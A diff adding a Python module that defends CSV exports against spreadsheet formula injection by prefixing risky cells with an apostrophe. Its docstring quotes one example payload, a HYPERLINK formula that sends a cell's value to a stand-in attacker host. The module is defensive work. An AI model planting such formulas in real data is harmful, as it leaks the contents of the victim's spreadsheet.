@@ -1,0 +1,34 @@
+"""CSV for people to open in a spreadsheet: every export goes through here.
+
+A cell that begins with = + - @ (or a tab or carriage return, which some spreadsheets skip
+before looking) is read as a formula by Excel, LibreOffice and Google Sheets: a lead who types
+=HYPERLINK("http://evil.example/?"&A1, "Click") into a web form would run it on the firm's
+computer (CSV injection, OWASP). Such a cell is written with a leading apostrophe, which the
+spreadsheets show as text; the stored value stays exactly as it was typed.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable
+from typing import Any, Protocol
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+class _Writable(Protocol):
+    def write(self, text: str, /) -> Any: ...
+
+
+def neutralise(value: Any) -> str:
+    """The cell as text a spreadsheet will not evaluate."""
+    text = "" if value is None else str(value)
+    if text.startswith(FORMULA_STARTS):
+        return "'" + text
+    return text
+
+
+def write_rows(stream: _Writable, rows: Iterable[Iterable[Any]]) -> None:
+    writer = csv.writer(stream)
+    for row in rows:
+        writer.writerow([neutralise(cell) for cell in row])
